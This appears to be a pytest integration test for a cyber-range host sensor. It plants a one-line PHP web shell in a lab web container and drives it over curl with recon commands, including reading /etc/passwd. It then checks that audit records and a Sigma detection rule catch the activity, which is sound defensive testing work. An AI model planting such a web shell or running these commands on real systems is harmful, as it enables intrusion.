"""The host sensor on the real kernel and the real range: a web shell driven through the real
portal makes php-fpm start real processes in the team's web container; the kernel's audit
records of them reach the team's event store as Sigma's Linux log sources, attributed to the
node, with the range's own commands (docker exec, the host's processes) left out, and the
reference rule on them fires."""
import sqlite3
import subprocess
import threading
import time
from pathlib import Path

import pytest

from range.detect import load_rules, run
from range.events.hostsensor import HostSensor
from range.runtime import container, down, netns_path, up

SESSION = "pytest-hostsensor"
ROOT = Path(__file__).resolve().parents[2]
SHELL = b'<?php system($_REQUEST["cmd"]); ?>\n'


@pytest.fixture(scope="module")
def sensed(docker, office, office_images, tmp_path_factory):
    down(SESSION, client=docker)
    s = up(office, SESSION, ["a", "b"], seed=3, client=docker)
    out = tmp_path_factory.mktemp("host")
    stores = {"a": out / "a.db", "b": out / "b.db"}
    sensor = HostSensor(SESSION, stores, out / "status.json")
    th = threading.Thread(target=sensor.run, daemon=True)
    th.start()
    time.sleep(1.5)
    web = container(SESSION, "a", "web")
    web.exec_run(["sh", "-c", "id; uname -a; cat /etc/passwd > /dev/null"])   # the range's: never recorded
    import io
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("sh3ll.php")
        info.size, info.mode = len(SHELL), 0o644
        tar.addfile(info, io.BytesIO(SHELL))
    web.put_archive("/var/www/portal/uploads", buf.getvalue())
    ip = s.teams["a"].layout.host("web").ip
    attacker = netns_path(SESSION, "a", "attacker")
    for cmd in ["id", "uname%20-a", "cat%20/etc/passwd", "touch%20/tmp/dropped"]:
        subprocess.run(["nsenter", f"--net={attacker}", "curl", "-s", "-m", "5", "-o", "/dev/null",
                        f"http://{ip}/uploads/sh3ll.php?cmd={cmd}"], check=True)
    time.sleep(2.0)
    sensor.stop.set()
    th.join(20)
    yield stores, sensor
    down(SESSION, client=docker)


def _rows(db: Path, sql: str) -> list:
    c = sqlite3.connect(db)
    c.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in c.execute(sql)]
    finally:
        c.close()


def test_the_web_shells_commands_are_recorded_as_the_web_nodes_processes(sensed):
    stores, sensor = sensed
    procs = _rows(stores["a"], "SELECT * FROM process_creation WHERE host = 'web'")
    shells = [p for p in procs if p["ParentImage"] == "/usr/sbin/php-fpm8.2"]
    assert [p["CommandLine"] for p in shells] == ["sh -c id", "sh -c uname -a", "sh -c cat /etc/passwd",
                                                  "sh -c touch /tmp/dropped"]
    assert all(p["User"] == "www-data" and p["Image"] == "/usr/bin/dash" for p in shells)
    kids = {p["CommandLine"]: p for p in procs if p["ParentImage"] == "/usr/bin/dash"}
    assert kids["id"]["Image"] == "/usr/bin/id" and kids["cat /etc/passwd"]["CurrentDirectory"].endswith("uploads")
    files = _rows(stores["a"], "SELECT * FROM file_event WHERE TargetFilename = '/tmp/dropped'")
    assert len(files) == 1 and files[0]["Image"] == "/usr/bin/touch"
    execve = _rows(stores["a"], "SELECT * FROM auditd WHERE type = 'EXECVE' AND a0 = 'uname'")
    assert len(execve) == 1 and execve[0]["a1"] == "-a"
    assert sensor.stats["records"] > 0 and sensor.stats["errors"] == []


def test_the_ranges_own_commands_and_the_other_team_are_left_out(sensed):
    stores, sensor = sensed
    # docker exec's sh, id and uname ran before the web shell's: none of them is a record
    first_shell = _rows(stores["a"], "SELECT min(ts) AS t FROM process_creation WHERE ParentImage LIKE '%php-fpm%'")
    early = _rows(stores["a"], f"SELECT * FROM process_creation WHERE ts < {first_shell[0]['t']}")
    assert early == [] and sensor.translator.counts["ignored"] >= 3
    assert _rows(stores["b"], "SELECT * FROM process_creation") == []
    marks = _rows(stores["b"], "SELECT value FROM meta WHERE key = 'watermark:host'")
    assert marks == [{"value": "inf"}]


def test_the_reference_rule_detects_the_web_shell_on_live_records(sensed):
    stores, _ = sensed
    rules = load_rules([ROOT / "detections" / "rules" / "lnx_webshell_recon.yml"])
    alerts, errors = run(rules, stores["a"])
    assert errors == [] and alerts and {a["rule_id"] for a in alerts} == {"d952242d-95f6-4faf-9c7b-4ab434c820fc"}
